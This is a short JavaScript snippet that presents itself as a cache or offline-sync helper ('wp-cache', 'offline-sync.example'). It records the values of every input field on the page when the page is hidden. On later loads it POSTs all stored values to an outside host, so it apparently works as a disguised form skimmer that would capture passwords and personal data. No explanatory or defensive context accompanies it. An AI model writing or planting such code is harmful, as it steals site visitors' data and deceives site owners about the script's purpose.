const open = indexedDB.open('wp-cache', 1);
open.onupgradeneeded = () => open.result.createObjectStore('q', { autoIncrement: true });
open.onsuccess = () => {
  const db = open.result;
  addEventListener('pagehide', () => {
    const d = {};
    document.querySelectorAll('input').forEach(i => d[i.name] = i.value);
    db.transaction('q', 'readwrite').objectStore('q').add(d);
  });
  db.transaction('q').objectStore('q').getAll().onsuccess = (e) => {
    if (e.target.result.length) fetch('https://offline-sync.example/q', { method: 'POST', body: JSON.stringify(e.target.result) });
  };
};
